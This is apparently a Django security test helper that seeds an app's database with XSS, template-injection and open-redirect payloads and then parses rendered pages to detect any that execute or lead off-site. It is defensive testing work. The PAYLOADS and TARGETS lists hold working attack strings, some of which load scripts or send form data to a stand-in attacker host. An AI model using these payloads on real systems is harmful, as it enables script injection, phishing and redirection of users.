"""What people send who mean harm, and a reader of pages that sees whether any of it came to life."""

import itertools
import re
import uuid
from collections.abc import Iterable
from html.parser import HTMLParser
from typing import Any
from urllib.parse import urlsplit

from django.db import models

from accounts.models import User
from progress.models import Evidence, Mark, Note, Suggestion
from roadmap.models import Checkpoint, Faq, Group, Phase, Question, Resource, Revision, Roadmap, Section, Skill

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><svg onload=alert(1)>",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    "` onmouseover=alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror\n=alert(1)//",
    "<img/src/onerror=alert(1)>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<div style=background:url(//evil.example/x.png)>",
    "<form action=//evil.example/><button>Sign in</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1)) <javascript:alert(1)>",
    "[x](java\tscript:alert(1)) [y](JAVASCRIPT&colon;alert(1))",
    "![x](https://evil.example/x.png) [y]: data:text/html,<script>alert(1)</script>",
    "{{ 7*7 }}{% debug %}{% load x %}${7*7}<%= 7*7 %>#{7*7}",
    "＜script＞alert(1)＜/script＞\u2028\u2029<\u0130mg src=x onerror=alert(1)>",
)

TARGETS = (
    "https://evil.example/",
    "http://evil.example",
    "HTTPS://EVIL.EXAMPLE/",
    "//evil.example/",
    "///evil.example/",
    "////evil.example/",
    "/\\evil.example/",
    "\\/evil.example/",
    "\\\\evil.example/",
    "/\\/evil.example/",
    "/\t/evil.example/",
    "/\n/evil.example/",
    " //evil.example/",
    "\t//evil.example/",
    "https:evil.example/",
    "https:/evil.example/",
    "https:///evil.example/",
    "https:\\\\evil.example/",
    "//evil.example:80/",
    "//evil。example/",
    "//[::1]/",
    "https://[::1",
    "https://testserver@evil.example/",
    "https://testserver.evil.example/",
    "https://evil.example?testserver/",
    "http://testserver//evil.example/",
    "http://testserver////evil.example/",
    "http://testserver/\t/evil.example/",
    "http://testserver\\@evil.example/",
    "http://testserver:80@evil.example/",
    "javascript:alert(1)",
    "JaVa\nScRiPt:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "ftp://testserver/",
    "/\r\nLocation: https://evil.example/",
)

_MARKDOWN = "a blockquote br code em h3 h4 h5 h6 hr li ol p pre strong ul"
_MARKDOWNS = {
    *((tag, "") for tag in _MARKDOWN.split()),
    *(("a", name) for name in ("href", "title", "rel")),
    *(("code", "class"), ("ol", "start")),
}
_ADDRESSES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcset", "background"}
_CONTENT = (Roadmap, Phase, Section, Group, Skill, Resource, Checkpoint, Question, Faq)


class _Reader(HTMLParser):
    """elements: (tag, "") and (tag, attribute) of all there is; addresses: whatever leads or loads somewhere."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.elements: set[tuple[str, str]] = set()
        self.addresses: set[tuple[str, str, str]] = set()
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements |= {(tag, ""), *((tag, name) for name, _ in attrs)}
        if tag == "script" and "src" not in dict(attrs) and ("type", "application/json") not in attrs:
            self.elements.add((tag, "inline"))
        self.addresses |= {(tag, name, value or "") for name, value in attrs if name in _ADDRESSES}

    def handle_pi(self, data: str) -> None:
        self.elements.add(("?", ""))


def _leads_astray(tag: str, name: str, address: str) -> bool:
    address = re.sub(r"[\x00-\x20]", "", address).replace("\\", "/").lower()
    if tag == "a":
        return not re.match(r"https?://|mailto:|[/#?]|$", address) or address.startswith("//")
    own = address.startswith(("/", "#", "?")) and not address.startswith("//")
    return not (own or address == "" or (tag == "link" and address.startswith("http://localhost:8000/")))


def alive(page: str, plain: str) -> set[tuple[str, ...]]:
    """What is on the page that is not on the same page about harmless words, and that Markdown may not make; and
    addresses that run something, or load or send something elsewhere."""
    here = _Reader(page)
    more = here.elements - _Reader(plain).elements - _MARKDOWNS
    return {*more, *(each for each in here.addresses if _leads_astray(*each))}


def stays(location: str) -> bool:
    """Whether a browser at http://testserver/ stays there, as it reads addresses: \\ is /, tabs and ends of lines
    are not there, and any number of slashes begins a host."""
    location = re.sub(r"[\t\r\n]", "", location.strip("".join(map(chr, range(33))))).replace("\\", "/")
    parts = urlsplit(location)
    if parts.scheme:
        return parts.scheme in ("http", "https") and parts.netloc == "testserver"
    return not location.startswith("//")


def write(words: Iterable[str]) -> None:
    """One of them into each text of each row, whatever its form would have said, as a stolen database would have it."""
    for model in (*_CONTENT, Revision, Note, Evidence, Suggestion, Mark, User):
        word = itertools.cycle(words)
        for row in model._base_manager.order_by("pk"):
            model._base_manager.filter(pk=row.pk).update(**_texts(model, next(word)))
    Roadmap.objects.update(version=uuid.uuid4())


def _texts(model: type[models.Model], word: str) -> dict[str, Any]:
    values: dict[str, Any] = {}
    for field in model._meta.fields:
        kept = field.choices or field.unique or field.name in ("slug", "kind", "handle", "password", "time_zone")
        if field.name == "changes":
            values[field.name] = {"title": [word, f"{word} too"]}
        elif isinstance(field, models.JSONField):
            values[field.name] = [word, f"{word} too"]
        elif field.name == "url":
            values[field.name] = "https://e.example/?" + "+".join(word.split())
        elif isinstance(field, models.CharField | models.TextField) and not kept:
            values[field.name] = word[: field.max_length or None]
    return values
